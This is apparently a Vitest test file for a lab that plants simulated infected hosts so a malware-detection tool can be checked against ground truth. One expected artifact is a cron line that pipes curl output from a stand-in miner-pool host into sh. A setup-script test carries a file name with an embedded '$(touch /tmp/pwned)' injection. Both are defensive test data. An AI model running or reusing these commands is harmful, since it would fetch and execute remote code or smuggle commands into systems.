import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { groundTruth, inventoryYaml, knownHosts, labFiles, sshConfig } from '../../../src/lab/inventory.js';
import { planLab } from '../../../src/lab/plan.js';
import { SCENARIOS } from '../../../src/lab/scenarios/index.js';
import { setupScript, sshdConfig } from '../../../src/lab/setup-script.js';

const key = { publicKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFakeFake', fingerprint: 'SHA256:fake' };
const inputs = { sha256: (f: string) => `sha-${f}`, keys: { outlaw: key, cleanfda: key, hostile: key } };
const opts = { dir: '/var/lib/minesweep/lab-u', subnet: '198.18.4.0/24', hosts: 13, bastion: true, hiddenHosts: 2 };

describe('lab plan', () => {
  const lab = planLab(opts, inputs);
  it('assigns scenarios round-robin past the first N, adds the pool and the hidden hosts', () => {
    const hosts = lab.hosts.filter((h) => h.role === 'host');
    expect(hosts.map((h) => h.scenario)).toEqual([...SCENARIOS.map((s) => s.name), 'clean', 'clean-busy']);
    expect(lab.hosts.find((h) => h.role === 'pool')?.address).toBe('198.18.4.254');
    expect(lab.hosts.filter((h) => h.role === 'hidden').map((h) => h.address)).toEqual(['198.18.104.11', '198.18.104.12']);
    expect(lab.hosts[0]!.bastionAddress).toBe('198.18.104.1');
    expect(new Set(lab.hosts.map((h) => h.veth)).size).toBe(lab.hosts.length);
  });
  it('burns CPU only on the first instance of a busy scenario', () => {
    const busy = lab.hosts.filter((h) => h.scenario === 'clean-busy');
    expect(busy[0]!.plan!.start.join('\n')).toContain('MS_LAB_BURN=40');
    expect(busy[1]!.plan!.start.join('\n')).toContain('MS_LAB_BURN=0');
  });
  it('writes an Ansible inventory without the pool, hidden hosts behind ProxyJump', () => {
    const files = labFiles(opts.dir);
    const inv = parse(inventoryYaml(lab, files)) as { all: { vars: Record<string, string>; hosts: Record<string, Record<string, string>>; children: Record<string, { hosts: Record<string, null>; vars?: Record<string, string> }> } };
    expect(inv.all.vars.ansible_user).toBe('root');
    expect(inv.all.vars.ansible_ssh_private_key_file).toBe('/var/lib/minesweep/lab-u/id_ed25519');
    expect(inv.all.vars.ansible_ssh_common_args).toBe('-o UserKnownHostsFile=/var/lib/minesweep/lab-u/known_hosts -o StrictHostKeyChecking=yes');
    expect(inv.all.hosts.pool).toBeUndefined();
    expect(inv.all.hosts.h03).toEqual({ ansible_host: '198.18.4.13', lab_scenario: 'redis' });
    expect(Object.keys(inv.all.children.web!.hosts)).toContain('h01');
    expect(inv.all.children.hidden!.vars!.ansible_ssh_common_args).toMatch(/-o ProxyJump=root@198\.18\.4\.11$/);
    expect(sshConfig(lab, files)).toContain('Host hidden01\n  HostName 198.18.104.11\n  ProxyJump root@198.18.4.11');
    const kh = knownHosts(lab, new Map(lab.hosts.map((h) => [h.name, `ssh-ed25519 KEY${h.name}`])));
    expect(kh.split('\n')).toContain('198.18.4.254 ssh-ed25519 KEYpool');
  });
  it('writes ground truth: clean hosts expect nothing, infected ones list artifacts and a family', () => {
    const t = groundTruth(lab, labFiles(opts.dir), 'pw', new Date(0));
    expect(t.lab.poolAddress).toBe('198.18.4.254');
    expect(t.lab.hiddenSubnet).toBe('198.18.104.0/24');
    expect(t.hosts.find((h) => h.name === 'pool')).toBeUndefined();
    for (const h of t.hosts) {
      if (h.scenario === 'clean' || h.scenario === 'clean-busy') {
        expect(h.expectFindings).toBe(false);
        expect(h.family).toBeNull();
        expect(h.artifacts.every((a) => a.legitimate)).toBe(true);
      } else {
        expect(h.expectFindings).toBe(true);
        expect(h.family).toBeTruthy();
        expect(h.artifacts.filter((a) => !a.legitimate).length).toBeGreaterThan(0);
      }
    }
    const redis = t.hosts.find((h) => h.scenario === 'redis')!;
    expect(redis.artifacts).toContainEqual({ kind: 'cron-line', path: '/var/spool/cron/crontabs/root', line: '*/5 19-23,0-7 * * * curl -fsSL http://pm.cpuminerpool.invalid:8080/api/report?pm=0798 | sh' });
    expect(t.users.ops.password).toBe('pw');
  });
  it('quotes every planted value in the setup script (hostile names stay one word)', () => {
    const hostile = lab.hosts.find((h) => h.scenario === 'hostile')!;
    const script = setupScript(lab, hostile, { controllerKey: key.publicKey, opsPassword: "p'w", node: '/usr/bin/node' });
    expect(script).toContain(`'/etc/cron.d/upd $(touch /tmp/pwned) '\\''q'\\'' "dq"\nnl'`);
    expect(script).toContain(`'ops:p'\\''w'`);
    expect(sshdConfig(['198.18.4.11', '198.18.104.1'])).toMatch(/ListenAddress 198\.18\.4\.11:22\nListenAddress 198\.18\.104\.1:22\n/);
  });
});
